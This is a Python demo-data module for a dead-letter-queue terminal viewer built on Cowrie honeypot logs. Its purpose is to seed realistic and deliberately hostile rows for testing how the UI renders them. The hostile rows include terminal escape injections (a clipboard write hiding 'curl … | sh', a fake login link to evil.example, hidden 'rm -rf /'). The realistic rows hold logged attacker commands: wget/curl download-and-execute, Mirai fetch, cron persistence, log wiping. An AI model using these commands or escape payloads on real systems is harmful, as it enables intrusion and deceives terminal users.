"""Demo data: realistic Cowrie dead-letter events, breakers and runs, plus hostile rows (issue 4).

`fill_demo(engine)` fills an *empty* v7 dead_letter_events table and returns the number of events it
inserted (0 when the table already had rows). It is deterministic for a given seed: the same rows,
payload bytes, checksums and idempotency keys every time. Times that drive what the screens show
(created_at, locks, breaker, runs) are relative to the server's now(), so ages read the same whenever the
demo is loaded; times *inside* payloads and audit entries are fixed (March 2024, like the log file names),
so payload text and checksums never change.

Hostile rows are found by their ingest_id (`hostile_ids(conn)`), never by luck: see HOSTILE_NAMES.

What PostgreSQL accepts (measured on 18): a `json` column keeps `\\u0000` and lone surrogates such as
`\\udcff` as escapes in its text (extracting them with ->> fails); `jsonb` rejects both, so audit
columns carry neither. Raw control characters are not valid inside JSON strings (they must be `\\u`
escapes, which a JSON parser turns back into real ESC bytes) but are fine in varchar columns (source,
reason), except NUL. json and jsonb both accept 10,000 levels of nesting (50,000 overflows the stack).
"""

from __future__ import annotations

import hashlib
import json
import random
import uuid
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any, Literal

from sqlalchemy import Connection, Engine, text

DEMO_INGEST_PREFIX = "demo-"
HOSTILE_INGEST_PREFIX = "demo-hostile-"
PAYLOAD_TIME_BASE = datetime(2024, 3, 1, tzinfo=UTC)  # fixed: payload text must not depend on the load time
DAY = 86_400.0
HUGE_PAYLOAD_BYTES = 5 * 1024 * 1024
DEEP_NESTING = 5_000

# --- hostile strings (also handy for text.py's table tests) --------------------------------------------
CLEAR_SCREEN = "\x1b[2J\x1b[3J\x1b[H"
SET_TITLE = "\x1b]0;root@prod: you have been pwned\x07"
OSC8_LINK = "\x1b]8;;https://evil.example/login\x1b\\click to verify your account\x1b]8;;\x1b\\"
OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3NoIHwgc2g=\x07"  # "curl -s .../sh | sh"
RICH_MARKUP = "[bold red]ALL CLEAR[/] [link=https://evil.example]docs[/link] [@click=app.quit]x[/] [/]"
BIDI_OVERRIDE = "\u202egpj.exe"  # shows as "exe.jpg"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"
C1_CSI = "\x9b2J"  # 8-bit CSI: some terminals honour it
BACKSPACE_CR = "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls -la  \rnothing to see here"


@dataclass(frozen=True)
class HostileRow:
    name: str
    reason: str
    source: str | None
    payload: str  # JSON text, stored as is
    metadata: str | None = None
    classification: str | None = None
    priority: int = 1
    error_history: list[dict[str, Any]] = field(default_factory=list)


def _j(value: Any) -> str:
    """JSON text as the pipeline writes it: C0 controls become \\u escapes (JSON requires it), the rest stays raw."""
    return json.dumps(value, separators=(", ", ": "), ensure_ascii=False)


def _huge_payload() -> str:
    lines: list[str] = []
    size = 0
    # A dropper pasted over and over: one huge single-line string, the worst case for a table cell.
    while size < HUGE_PAYLOAD_BYTES - 200:
        line = (
            f"echo {len(lines):07d} | base64 -d > /tmp/.x; wget -q http://203.0.113.{len(lines) % 250}/x -O /tmp/.b; "
        )
        lines.append(line)
        size += len(line)
    return _j({"malformed_content": "".join(lines), "parsing_timestamp": "2024-03-04T02:11:09Z", "original_offset": 1})


def _deep_payload() -> str:
    inner = '"bottom"'
    nested = "[" * DEEP_NESTING + inner + "]" * DEEP_NESTING
    return '{"malformed_content": "deeply nested input", "nested": ' + nested + "}"


HOSTILE_ROWS: tuple[HostileRow, ...] = (
    HostileRow(
        "clear_screen",
        reason="json_parsing_failed" + CLEAR_SCREEN,
        source="/var/log/cowrie/cowrie.json.2024-03-02" + CLEAR_SCREEN,
        payload=_j({"malformed_content": "uname -a" + CLEAR_SCREEN + "\x1b[31mHACKED", "original_offset": 7}),
        metadata=_j({"json_parsing_failed": True, "note": CLEAR_SCREEN}),
        error_history=[
            {"timestamp": "2024-03-02T10:00:00Z", "error_type": "repair_failed" + CLEAR_SCREEN, "retry_count": 1}
        ],
    ),
    HostileRow(
        "window_title",
        reason="unknown" + SET_TITLE,
        source="/var/log/cowrie/" + SET_TITLE + "cowrie.json",
        payload=_j({"malformed_content": "echo " + SET_TITLE, "title2": "\x1b]2;owned\x1b\\"}),
    ),
    HostileRow(
        "osc8_link",
        reason="file_type_mismatch",
        source="/var/log/cowrie/cowrie.json.2024-03-03",
        payload=_j({"malformed_content": OSC8_LINK}),
        metadata=_j({"link": OSC8_LINK}),
        error_history=[{"timestamp": "2024-03-03T01:00:00Z", "error_type": "skip", "error_message": OSC8_LINK}],
    ),
    HostileRow(
        "osc52_clipboard",
        reason="payload_not_dict" + OSC52_CLIPBOARD,
        source="/var/log/cowrie/cowrie.json.2024-03-03",
        payload=_j(["cowrie.command.input", OSC52_CLIPBOARD]),
    ),
    HostileRow(
        "rich_markup",
        reason="[link=https://evil.example]unknown[/link]",
        source="[@click=app.quit]/var/log/cowrie/cowrie.json[/]",
        payload=_j({"malformed_content": RICH_MARKUP, "[bold]key[/bold]": "[/]"}),
        metadata=_j({"[/]": True, "requires_investigation": "[@click=app.quit]"}),
        classification="[/]",
        error_history=[
            {"timestamp": "[bold]now[/]", "error_type": "[/]", "error_message": RICH_MARKUP, "[/]": "[@click=app.quit]"}
        ],
    ),
    HostileRow(
        "bidi",
        reason="unknown\u202e\u2066deliberately reversed",
        source="/var/log/cowrie/invoice" + BIDI_OVERRIDE,
        payload=_j({"malformed_content": "cat /etc/passwd # " + BIDI_OVERRIDE + " \u2067isolate\u2069"}),
    ),
    HostileRow(
        "zero_width",
        reason="json" + ZERO_WIDTH + "_parsing_failed",  # looks exactly like json_parsing_failed
        source="/var/log/cowrie/cowrie.json" + ZERO_WIDTH,
        payload=_j({"malformed_content": "pass" + ZERO_WIDTH + "word"}),
    ),
    HostileRow(
        "invalid_utf8",
        reason="encoding_error",
        source="/var/log/cowrie/cowrie.json.2024-03-05 \ufffd\ufffd (bytes ff fe)",
        # Lone surrogates as JSON escapes (what a decoder with errors="surrogateescape" produces for
        # bytes ff fe 80) and a NUL: json keeps them as text; only this column type can hold them.
        payload='{"malformed_content": "\\udcff\\udcfe\\udc80 GET / HTTP/1.0\\u0000\\r\\n", "original_offset": 9}',
        metadata=_j({"raw_bytes_hex": "fffe80", "potentially_multiline": True}),
    ),
    HostileRow(
        "c1_controls",
        reason="unknown" + C1_CSI,
        source="/var/log/cowrie/cowrie.json" + C1_CSI + "\x85\x90\x9d",
        payload=_j({"malformed_content": BACKSPACE_CR + "\x07\x07\x00\x7f"}),
    ),
    HostileRow(
        "backspace_cr",
        reason="unknown\rjson_parsing_failed",
        source="/var/log/cowrie/cowrie.json\r/var/log/ok.json     ",
        payload=_j({"malformed_content": BACKSPACE_CR}),
        classification="malicious",
    ),
    HostileRow(
        "huge_payload",
        reason="json_parsing_failed",
        source="/var/log/cowrie/cowrie.json.2024-03-04",
        payload="",  # filled in lazily by _hostile_payload: 5 MB is not built at import time
        metadata=_j({"json_parsing_failed": True, "potentially_multiline": True, "size_hint": "5MB"}),
        priority=2,
    ),
    HostileRow(
        "deep_nesting",
        reason="payload_not_dict",
        source="/var/log/cowrie/cowrie.json.2024-03-04",
        payload="",  # filled in lazily
        priority=2,
    ),
)
# Ordinary rows whose checksum status the detail pane shows: MISMATCH (payload changed after summing) / none.
MISMATCH_INGEST_IDS: tuple[str, ...] = (f"{DEMO_INGEST_PREFIX}00003", f"{DEMO_INGEST_PREFIX}00004")
NO_CHECKSUM_INGEST_IDS: tuple[str, ...] = (f"{DEMO_INGEST_PREFIX}00005", f"{DEMO_INGEST_PREFIX}00006")
HOSTILE_NAMES: tuple[str, ...] = tuple(row.name for row in HOSTILE_ROWS)
HOSTILE_REASONS: dict[str, str] = {row.name: row.reason for row in HOSTILE_ROWS}
HOSTILE_SOURCES: dict[str, str | None] = {row.name: row.source for row in HOSTILE_ROWS}


def hostile_ingest_id(name: str) -> str:
    return HOSTILE_INGEST_PREFIX + name


def hostile_ids(conn: Connection) -> dict[str, int]:
    """name -> event id of each hostile demo row present in the database."""
    rows = conn.execute(
        text("SELECT ingest_id, id FROM dead_letter_events WHERE ingest_id LIKE :p"),
        {"p": HOSTILE_INGEST_PREFIX + "%"},
    )
    return {ingest[len(HOSTILE_INGEST_PREFIX) :]: event_id for ingest, event_id in rows}


def _hostile_payload(row: HostileRow) -> str:
    if row.name == "huge_payload":
        return _huge_payload()
    if row.name == "deep_nesting":
        return _deep_payload()
    return row.payload


# --- the pipeline's raw_events (where a redrive writes) ----------------------------------------------------

RawEventsKey = Literal["constraint", "index", "both"]


def create_raw_events(conn: Connection, *, timestamp: str = "timestamptz", key: RawEventsKey = "both") -> None:
    """raw_events as the pipeline creates it (for the demo, tests and benchmarks: dlq-tui never creates it in a
    real database). timestamp="varchar" gives the shape before the pipeline's v12; key says how uniqueness is kept
    (older databases have only the index, newer ones the constraint, many both)."""
    stamp = {"timestamptz": "TIMESTAMP WITH TIME ZONE", "varchar": "VARCHAR(64)"}[timestamp]
    constraint = (
        ",\n    CONSTRAINT uq_raw_events_source_offset UNIQUE (source, source_inode, source_generation, source_offset)"
        if key in ("constraint", "both")
        else ""
    )
    conn.execute(
        text(
            f"""
            CREATE TABLE raw_events (
                id SERIAL PRIMARY KEY,
                ingest_id VARCHAR(64),
                ingest_at TIMESTAMP WITH TIME ZONE NOT NULL DEFAULT now(),
                source VARCHAR(512) NOT NULL,
                source_offset BIGINT,
                source_inode VARCHAR(128),
                source_generation INTEGER NOT NULL DEFAULT 0,
                payload JSON NOT NULL,
                payload_hash VARCHAR(64),
                risk_score INTEGER,
                quarantined BOOLEAN NOT NULL DEFAULT false,
                session_id VARCHAR(64),
                event_type VARCHAR(128),
                event_timestamp {stamp}{constraint}
            )
            """
        )
    )
    if key in ("index", "both"):
        conn.execute(
            text(
                "CREATE UNIQUE INDEX uq_raw_events_source_gen"
                " ON raw_events (source, source_inode, source_generation, source_offset)"
            )
        )


# --- parse failures a redrive can and cannot repair ------------------------------------------------------

REDRIVE_INGEST_PREFIX = "demo-redrive-"
REDRIVE_SOURCE = "/var/log/cowrie/cowrie.json.2024-03-11"
REDRIVE_INODE = "3407881"  # the loader's inode of REDRIVE_SOURCE, on its raw_events rows
_LOADER_OFFSET = 5_000_000  # the loader's own rows sit far from the dead letters' offsets


def _cowrie(eventid: str, session: str, second: int, **fields: Any) -> dict[str, Any]:
    """A Cowrie event in Cowrie's own key order (eventid first, then its fields, then the common ones)."""
    stamp = datetime(2024, 3, 11, 4, 12, tzinfo=UTC) + timedelta(seconds=second, microseconds=second * 7919)
    return {
        "eventid": eventid,
        **fields,
        "sensor": "hp-eu-1",
        "timestamp": stamp.isoformat().replace("+00:00", "Z"),
        "src_ip": "198.51.100.23",
        "session": session,
    }


def _redrive_contents() -> dict[str, tuple[str, str | dict[str, Any]]]:
    """name -> (reason, malformed_content text, or the event itself for a validation row)."""
    login = _cowrie(
        "cowrie.login.success",
        "5c2d9e71a0b4",
        1,
        username="pi",
        password="raspberry",
        message="login attempt [pi/raspberry] succeeded",
    )
    command = _cowrie(
        "cowrie.command.input",
        "5c2d9e71a0b4",
        4,
        input="cd /tmp; wget http://203.0.113.9/bins/mips -O .m; chmod +x .m; ./.m ssh",
        message="CMD: cd /tmp; wget http://203.0.113.9/bins/mips -O .m; chmod +x .m; ./.m ssh",
    )
    connect = _cowrie(
        "cowrie.session.connect",
        "a81f03c6d2e9",
        9,
        src_port=50122,
        dst_ip="10.0.0.5",
        dst_port=22,
        protocol="ssh",
        message="New connection: 198.51.100.23:50122 (10.0.0.5:22)",
    )
    closed = _cowrie(
        "cowrie.session.closed", "a81f03c6d2e9", 70, message="Connection lost after 61.2 seconds", duration=61.2
    )
    download = _cowrie(
        "cowrie.session.file_download",
        "77be10f4c3a2",
        30,
        url="http://203.0.113.9/x.sh",
        shasum="9dbdb2914d49ad587b937304860747072037ac880b77832c2a5b8075e0cf372b",
        message="Downloaded URL (http://203.0.113.9/x.sh)",
    )
    chpasswd = {
        "eventid": "cowrie.command.input",
        "session": "77be10f4c3a2",
        "timestamp": "2024-03-11T04:12:41.000412Z",
        "src_ip": "198.51.100.23",
        "sensor": "hp-eu-1",
        "input": "echo 'root:Xk29sla' | chpasswd; rm -rf /var/log/*; history -c",
        "message": "CMD: echo 'root:Xk29sla' | chpasswd; rm -rf /var/log/*; history -c",
    }
    # Raw control characters inside a string (Cowrie logs what the attacker typed): not JSON, yet repairable.
    escapes = _cowrie(
        "cowrie.command.input",
        "e4d3c2b1a0f9",
        50,
        input="echo " + SET_TITLE + " " + RICH_MARKUP + " " + BIDI_OVERRIDE,
        message="CMD: echo",
    )
    escapes_line = json.dumps(escapes, ensure_ascii=False).replace("\\u001b", "\x1b").replace("\\u0007", "\x07")
    chp = json.dumps(chpasswd)
    return {
        "validation_row": ("schema_validation_failed", login),
        "cut_after_comma": ("truncated_line", chp[: chp.index('history -c",') + len('history -c",')]),
        "trailing_comma": ("json_parsing_failed", json.dumps(connect)[:-1] + ",}"),
        "log_prefix": ("json_parsing_failed", "2024-03-11T04:12:55.123Z cowrie[812]: " + json.dumps(command)),
        "stray_bytes": ("json_parsing_failed", json.dumps(closed) + "\x00\x00"),
        "raw_escapes": ("json_parsing_failed", escapes_line),
        "cut_command": ("truncated_line", chp[: chp.index("| chp") + len("| chp")]),
        "cut_session": ("truncated_line", json.dumps(download)[: json.dumps(download).index('"session": "77be') + 16]),
        "unquoted_keys": (
            "json_parsing_failed",
            "{eventid: cowrie.login.success, session: 5c2d9e71a0b4, timestamp: 2024-03-11T04:12:01Z}",
        ),
        "no_timestamp": (
            "schema_validation_failed",
            json.dumps({k: v for k, v in download.items() if k != "timestamp"}),
        ),
        "binary_junk": ("encoding_error", "SSH-2.0-\\xff\\xfe\\x80\\x81\\x9b2J"),
    }


REDRIVE_NAMES: tuple[str, ...] = tuple(_redrive_contents())


def redrive_ids(conn: Connection) -> dict[str, int]:
    """name -> event id of each redrive demo row present in the database."""
    rows = conn.execute(
        text("SELECT ingest_id, id FROM dead_letter_events WHERE ingest_id LIKE :p"),
        {"p": REDRIVE_INGEST_PREFIX + "%"},
    )
    return {ingest[len(REDRIVE_INGEST_PREFIX) :]: event_id for ingest, event_id in rows}


def _redrive_rows() -> list[dict[str, Any]]:
    rows = []
    for n, (name, (reason, content)) in enumerate(_redrive_contents().items()):
        offset = 2_000 + 137 * n
        payload = (
            _j(content)
            if isinstance(content, dict)
            else _j(
                {"malformed_content": content, "parsing_timestamp": _stamp(10 * DAY + n), "original_offset": offset}
            )
        )
        checksum = _checksum(payload)
        rows.append(
            {
                "ingest_id": REDRIVE_INGEST_PREFIX + name,
                "source": REDRIVE_SOURCE,
                "source_offset": offset,
                "reason": reason,
                "payload": payload,
                "metadata": _j({reason: True}),
                "age": 6 * 3600 - n * 60,
                "resolved": False,
                "resolved_after": None,
                "checksum": checksum,
                "key": _idempotency_key(REDRIVE_SOURCE, offset, checksum),
                "retries": 1,
                "errors": None,
                "attempts": None,
                "method": None,
                "lock": None,
                "lock_in": None,
                "priority": 3,
                "classification": "format_error",
                "last_processed": None,
            }
        )
    return rows


def _fill_raw_events(conn: Connection, sources: list[str]) -> None:
    """raw_events of the pipeline's current shape with a few of the loader's rows per demo source (so a redrive
    can take their inode), unless the database already has a raw_events table: that one is left alone."""
    from dlq_tui.repair import payload_hash

    if conn.execute(text("SELECT to_regclass('raw_events')")).scalar() is not None:
        return
    create_raw_events(conn)
    rows = []
    for n, source in enumerate(sorted(set(sources))):
        inode = REDRIVE_INODE if source == REDRIVE_SOURCE else str(3_400_000 + 7_919 * n)
        for k in range(5):
            event = _cowrie(
                "cowrie.session.connect",
                f"{0xC0FFEE00 + 16 * n + k:012x}",
                3600 * n + k,
                src_port=40000 + k,
                message=f"New connection: 198.51.100.23:{40000 + k}",
            )
            rows.append(
                {
                    "source": source,
                    "offset": _LOADER_OFFSET + k,
                    "inode": inode,
                    "payload": json.dumps(event),
                    "hash": payload_hash(event),
                    "session": event["session"],
                    "type": event["eventid"],
                    "stamp": event["timestamp"],
                }
            )
    conn.execute(
        text(
            "INSERT INTO raw_events (ingest_id, source, source_offset, source_inode, payload, payload_hash,"
            " risk_score, session_id, event_type, event_timestamp)"
            " VALUES ('demo-loader', :source, :offset, :inode, CAST(:payload AS json), :hash, 20, :session, :type,"
            " CAST(:stamp AS timestamptz))"
        ),
        rows,
    )


# --- ordinary rows --------------------------------------------------------------------------------------

REASONS: tuple[tuple[str, int], ...] = (
    ("json_parsing_failed", 55),
    ("file_type_mismatch", 12),
    ("payload_not_dict", 10),
    ("unknown", 8),
    ("schema_validation_failed", 6),
    ("encoding_error", 5),
    ("truncated_line", 4),
)
CLASSES: tuple[tuple[str | None, int], ...] = ((None, 60), ("malicious", 15), ("corrupted", 12), ("format_error", 13))

COMMANDS = (
    "wget http://{ip}/bins/mips -O /tmp/.m; chmod +x /tmp/.m; /tmp/.m",
    "curl -fsSL http://{ip}/x.sh | sh",
    "cd /tmp || cd /var/run; wget http://{ip}/a; chmod 777 a; ./a ssh",
    "echo {b64} | base64 -d | bash",
    "cat /proc/cpuinfo | grep name | wc -l",
    "uname -a; nproc; free -m",
    'echo "root:{pw}" | chpasswd',
    "rm -rf /tmp/* /var/tmp/*; history -c",
    "busybox tftp -g -r mirai.arm7 {ip}; chmod +x mirai.arm7; ./mirai.arm7 telnet",
    "crontab -l; echo '* * * * * curl -s http://{ip}/c | sh' | crontab -",
    "ls -la /dev/shm\nps aux | grep -v grep | grep miner\nkill -9 $(pidof xmrig)",
    "lscpu | grep Model; cat /etc/os-release\n\nexit",
)
PASSWORDS = ("admin", "123456", "P@ssw0rd", "raspberry", "root", "toor", "qwerty")
EVENT_IDS = ("cowrie.command.input", "cowrie.session.file_download", "cowrie.login.success", "cowrie.client.kex")


def _weighted(rng: random.Random, table: tuple[tuple[Any, int], ...]) -> Any:
    values, weights = zip(*table, strict=True)
    return rng.choices(values, weights=weights)[0]


def _ip(rng: random.Random) -> str:
    # Documentation ranges only: the demo must not point at real hosts.
    return f"{rng.choice(('192.0.2', '198.51.100', '203.0.113'))}.{rng.randrange(1, 255)}"


def _command(rng: random.Random) -> str:
    cmd = rng.choice(COMMANDS)
    b64 = hashlib.sha256(str(rng.random()).encode()).hexdigest()[:32] + "=="
    return cmd.format(ip=_ip(rng), b64=b64, pw=rng.choice(PASSWORDS))


def _stamp(seconds: float) -> str:
    return (PAYLOAD_TIME_BASE + timedelta(seconds=seconds)).isoformat().replace("+00:00", "Z")


def _payload(rng: random.Random, reason: str, offset: int, t: float) -> str:
    session = f"{rng.getrandbits(48):012x}"
    if reason in ("json_parsing_failed", "truncated_line", "schema_validation_failed", "unknown"):
        record = {"eventid": rng.choice(EVENT_IDS), "input": _command(rng), "session": session, "src_ip": _ip(rng)}
        line = json.dumps(record)
        cut = rng.randrange(len(line) // 2, len(line))  # the pipeline saw a truncated or interleaved line
        raw = line[:cut] if reason != "unknown" else line[:cut] + "\n" + line[cut:]
        return _j({"malformed_content": raw, "parsing_timestamp": _stamp(t), "original_offset": offset})
    if reason == "file_type_mismatch":
        return _j(
            {
                "file": f"/var/lib/cowrie/downloads/{hashlib.sha256(session.encode()).hexdigest()}",
                "expected": "application/json",
                "detected_type": rng.choice(("application/x-executable", "application/gzip", "text/x-shellscript")),
                "head_hex": rng.choice(("7f454c4602010100", "1f8b0808", "23212f62696e2f73")),
            }
        )
    if reason == "payload_not_dict":
        return _j([rng.choice(EVENT_IDS), _ip(rng), _command(rng)])
    # encoding_error: what a backslashreplace decode of binary junk looks like
    junk = "".join(f"\\x{rng.randrange(128, 256):02x}" for _ in range(rng.randrange(4, 24)))
    return _j({"malformed_content": "SSH-2.0-" + junk, "parsing_timestamp": _stamp(t), "original_offset": offset})


def _metadata(rng: random.Random, reason: str) -> str | None:
    if rng.random() < 0.1:
        return None
    flags: dict[str, Any] = {reason: True}
    if rng.random() < 0.4:
        flags["potentially_multiline"] = True
    if rng.random() < 0.3:
        flags["requires_investigation"] = True
    return _j(flags)


def _audit(
    rng: random.Random, retries: int, t: float
) -> tuple[list[dict[str, Any]] | None, list[dict[str, Any]] | None]:
    if retries == 0 and rng.random() < 0.5:
        return None, None
    errors: list[dict[str, Any]] = []
    attempts: list[dict[str, Any]] = []
    for n in range(1, min(retries, 6) + 1):
        when = _stamp(t + n * 900)
        entry: dict[str, Any] = {
            "timestamp": when,
            "error_type": rng.choice(("repair_failed", "upsert_failed", "skip")),
            "error_message": rng.choice(
                (
                    "Expecting ',' delimiter: line 1 column 212 (char 211)",
                    "Unterminated string starting at: line 1 column 88",
                    "duplicate key value violates unique constraint",
                    "payload is not a JSON object",
                )
            ),
            "processing_method": "stored_proc",
            "retry_count": n,
        }
        if rng.random() < 0.15:
            entry["sql_state"] = "22P02"  # keys the legacy format does not know must still be shown
        errors.append(entry)
        attempt: dict[str, Any] = {
            "timestamp": when,
            "method": rng.choice(("repair_failure", "stored_proc_enhanced")),
            "success": False,
            "attempts": n,
            "processing_time_ms": round(rng.uniform(2, 400), 1),
        }
        if rng.random() < 0.1:
            attempt["worker"] = f"dlq-proc-{rng.randrange(1, 4)}"
        attempts.append(attempt)
    return errors or None, attempts or None


def _checksum(payload: str) -> str:
    return hashlib.sha256(payload.encode("utf-8")).hexdigest()


def _idempotency_key(source: str | None, offset: int | None, checksum: str | None) -> str | None:
    # Like the migration: sha256(coalesce(source,'') || ':' || coalesce(offset::text,'') || ':' || checksum);
    # a NULL checksum makes the whole concatenation (and so the key) NULL.
    if checksum is None:
        return None
    return _checksum(f"{source or ''}:{'' if offset is None else offset}:{checksum}")


def _ordinary_rows(rng: random.Random, count: int) -> list[dict[str, Any]]:
    offsets: dict[str, int] = {}
    rows = []
    for i in range(count):
        day = rng.randrange(1, 11)
        source = f"/var/log/cowrie/cowrie.json.2024-03-{day:02d}"
        offsets[source] = offsets.get(source, 0) + rng.randrange(1, 400)
        offset = offsets[source]
        reason = _weighted(rng, REASONS)
        age = rng.uniform(120, 10 * DAY)
        payload_t = (day - 1) * DAY + rng.uniform(0, DAY)
        payload = _payload(rng, reason, offset, payload_t)
        roll = rng.random()
        priority = 5 if roll < 0.8 else rng.randrange(1, 5) if roll < 0.95 else rng.randrange(6, 11)
        retries = rng.choice((0, 0, 0, 1, 1, 2, 3)) if rng.random() < 0.9 else rng.randrange(6, 13)
        errors, attempts = _audit(rng, retries, payload_t)
        resolved = rng.random() < 0.15
        method = None
        resolved_after = None
        if resolved:
            method = rng.choice(("stored_proc_enhanced", "stored_proc_enhanced", "operator:resolve"))
            resolved_after = rng.uniform(30, min(age - 60, 2 * DAY))
            if attempts is not None and method == "stored_proc_enhanced":
                attempts = [*attempts, {"timestamp": _stamp(payload_t + 7200), "method": method, "success": True}]
        lock_in = None
        if not resolved:
            lock_roll = rng.random()
            if lock_roll < 0.02:
                lock_in = rng.uniform(5 * 60, 29 * 60)  # held by the processor
            elif lock_roll < 0.035:
                lock_in = -rng.uniform(60, DAY)  # expired: the processor died mid-batch
        checksum: str | None = _checksum(payload)
        rows.append(
            {
                "ingest_id": f"{DEMO_INGEST_PREFIX}{i:05d}",
                "source": source,
                "source_offset": offset,
                "reason": reason,
                "payload": payload,
                "metadata": _metadata(rng, reason),
                "age": age,
                "resolved": resolved,
                "resolved_after": resolved_after,
                "checksum": checksum,
                "key": _idempotency_key(source, offset, checksum),
                "retries": retries,
                "errors": None if errors is None else json.dumps(errors),
                "attempts": None if attempts is None else json.dumps(attempts),
                "method": method,
                "lock": None if lock_in is None else str(uuid.UUID(int=rng.getrandbits(128), version=4)),
                "lock_in": lock_in,
                "priority": priority,
                "classification": _weighted(rng, CLASSES),
                "last_processed": None if retries == 0 else rng.uniform(60, age),
            }
        )
    # Integrity cases the detail pane must show: two payloads changed after checksumming, two never summed.
    for row, fake in zip(rows[3:5], ("0" * 64, _checksum("tampered")), strict=False):
        row["checksum"] = fake
        row["key"] = _idempotency_key(row["source"], row["source_offset"], fake)
    for row in rows[5:7]:
        row["checksum"] = None
        row["key"] = None
    return rows


def _hostile_rows(rng: random.Random) -> list[dict[str, Any]]:
    rows = []
    for n, h in enumerate(HOSTILE_ROWS):
        payload = _hostile_payload(h)
        checksum = _checksum(payload)
        offset = 100_000 + n
        rows.append(
            {
                "ingest_id": hostile_ingest_id(h.name),
                "source": h.source,
                "source_offset": offset,
                "reason": h.reason,
                "payload": payload,
                "metadata": h.metadata,
                "age": 9 * DAY - n * 3600,  # old, high priority: they sit on the first page
                "resolved": False,
                "resolved_after": None,
                "checksum": checksum,
                "key": _idempotency_key(h.source, offset, checksum),
                "retries": 1 + n % 3,
                "errors": json.dumps(h.error_history) if h.error_history else None,
                "attempts": None,
                "method": None,
                "lock": None,
                "lock_in": None,
                "priority": h.priority,
                "classification": h.classification,
                "last_processed": None,
            }
        )
    return rows


_INSERT_EVENT = text(
    """
    INSERT INTO dead_letter_events (
        ingest_id, source, source_offset, reason, payload, metadata_json, created_at, resolved, resolved_at,
        payload_checksum, retry_count, error_history, processing_attempts, resolution_method, idempotency_key,
        processing_lock, lock_expires_at, priority, classification, updated_at, last_processed_at)
    VALUES (
        :ingest_id, :source, :source_offset, :reason, CAST(:payload AS json), CAST(:metadata AS json),
        now() - make_interval(secs => :age),
        :resolved,
        now() - make_interval(secs => :age) + make_interval(secs => :resolved_after),
        :checksum, :retries, CAST(:errors AS jsonb), CAST(:attempts AS jsonb), :method, :key,
        CAST(:lock AS uuid), now() + make_interval(secs => :lock_in), :priority, :classification,
        now(), now() - make_interval(secs => :last_processed))
    """
)


def _insert_breakers_and_runs(conn: Connection, rng: random.Random) -> None:
    conn.execute(
        text(
            """
            INSERT INTO dlq_circuit_breaker_state (breaker_name, state, failure_count, last_failure_time,
                next_attempt_time, failure_threshold, timeout_seconds, created_at, updated_at)
            VALUES ('dlq_main', 'open', 7, now() - interval '2 minutes', now() + interval '3 minutes', 5, 300,
                    now() - interval '9 days', now() - interval '2 minutes'),
                   ('dlq_repair', 'closed', 0, now() - interval '2 days', NULL, 5, 60,
                    now() - interval '9 days', now() - interval '2 days')
            ON CONFLICT (breaker_name) DO NOTHING
            """
        )
    )
    runs = []
    for n in range(10):
        started = (10 - n) * 1800 + rng.uniform(0, 300)
        batch = rng.choice((100, 250, 500))
        failed = rng.randrange(0, batch // 5)
        repaired = rng.randrange(0, batch - failed)
        skipped = rng.randrange(0, 10)
        duration = rng.randrange(800, 90_000)
        last = n == 9  # the newest run is the one that tripped dlq_main
        runs.append(
            {
                "session": f"{rng.getrandbits(64):016x}",
                "method": rng.choice(("stored_proc_enhanced", "stored_proc_enhanced", "python_repair")),
                "batch": batch,
                "processed": repaired + failed + skipped,
                "repaired": 0 if last else repaired,
                "failed": batch // 2 if last else failed,
                "skipped": skipped,
                "duration": duration,
                "avg": duration // batch,
                "mem": rng.randrange(40, 400),
                "tripped": last,
                "rate": rng.randrange(0, 3),
                "timeouts": rng.randrange(0, 2),
                "started": started,
                "took": duration / 1000,
            }
        )
    conn.execute(
        text(
            """
            INSERT INTO dlq_processing_metrics (processing_session_id, processing_method, batch_size,
                processed_count, repaired_count, failed_count, skipped_count, processing_duration_ms,
                avg_processing_time_ms, peak_memory_mb, circuit_breaker_triggered, rate_limit_hits,
                lock_timeout_count, started_at, completed_at)
            VALUES (:session, :method, :batch, :processed, :repaired, :failed, :skipped, :duration, :avg, :mem,
                :tripped, :rate, :timeouts, now() - make_interval(secs => :started),
                now() - make_interval(secs => :started) + make_interval(secs => :took))
            """
        ),
        runs,
    )


def fill_demo(engine: Engine, *, seed: int = 7, events: int = 1500) -> int:
    """Fill an empty DLQ with `events` demo events (hostile rows included); 0 when it already has events."""
    rng = random.Random(seed)
    with engine.begin() as conn:
        # Two demo loaders at once (two app instances) must not both fill: the second waits, then sees rows.
        conn.execute(text("LOCK TABLE dead_letter_events IN SHARE ROW EXCLUSIVE MODE"))
        if conn.execute(text("SELECT EXISTS (SELECT 1 FROM dead_letter_events)")).scalar():
            return 0
        hostile = _hostile_rows(rng)
        ordinary = _ordinary_rows(rng, max(0, events - len(hostile)))
        # The redrive rows take the place of the last ordinary ones: the total stays `events`, and the random
        # stream (so every other row, breaker and run) stays what it was.
        redrive = _redrive_rows()[: max(0, events - len(hostile))]
        ordinary = ordinary[: max(0, len(ordinary) - len(redrive))]
        huge = hostile_ingest_id("huge_payload")
        conn.execute(_INSERT_EVENT, [r for r in hostile if r["ingest_id"] != huge] + ordinary + redrive)
        # 5 MB: alone, so the batch is not held up building one giant parameter set.
        conn.execute(_INSERT_EVENT, next(r for r in hostile if r["ingest_id"] == huge))
        _insert_breakers_and_runs(conn, rng)
        _fill_raw_events(conn, [r["source"] for r in ordinary + redrive if r["source"]])
        return len(hostile) + len(ordinary) + len(redrive)
